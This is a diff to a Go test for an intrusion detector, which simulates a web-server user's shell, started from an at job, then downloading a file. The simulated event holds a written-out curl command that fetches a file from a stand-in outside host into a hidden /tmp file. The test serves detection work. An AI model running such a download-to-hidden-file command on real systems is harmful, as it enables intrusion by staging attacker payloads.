@@ -64,7 +64,7 @@ func TestAtJobFiresForIntrusion(t *testing.T) {
 	s.t = s.t.Add(time.Minute)
 	s.exec(800, 1, 0, "root", "/", "/usr/sbin/atd", "/usr/sbin/atd", "-f")
 	run := func(pid int) []*Finding {
-		s.exec(pid, 800, 33, "www-data", "/var/www", "/usr/bin/dash", "sh")
+		e.Observe(s.exec(pid, 800, 33, "www-data", "/var/www", "/usr/bin/dash", "sh"), s.tree)
 		return e.Observe(s.exec(pid+1, pid, 33, "www-data", "/var/www", "/usr/bin/curl", "curl", "-s", "-o", "/tmp/.k", "http://203.0.113.9/k"), s.tree)
 	}
 	first := run(810)
